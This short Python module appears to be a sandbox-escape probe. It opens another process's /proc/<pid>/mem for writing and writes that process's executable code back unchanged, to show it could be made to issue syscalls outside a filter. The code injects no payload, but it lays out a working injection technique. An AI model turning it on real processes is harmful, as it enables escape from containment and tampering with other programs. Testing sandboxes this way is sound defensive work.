"""Overwrites code of a process that no filter watches, by /proc, for it to call the kernel.

It writes what was there already. In a box of namespaces such a process is within reach: the first.
"""

import os

from child import any_of


def attack(pids):
    return any_of(*(lambda pid=pid: overwrite(pid) for pid in pids))


def overwrite(pid):
    with open(f"/proc/{pid}/maps") as file:
        place = next(line for line in file if "r-xp" in line).partition("-")[0]
    memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    code = os.pread(memory, 64, int(place, 16))
    return os.pwrite(memory, code, int(place, 16))
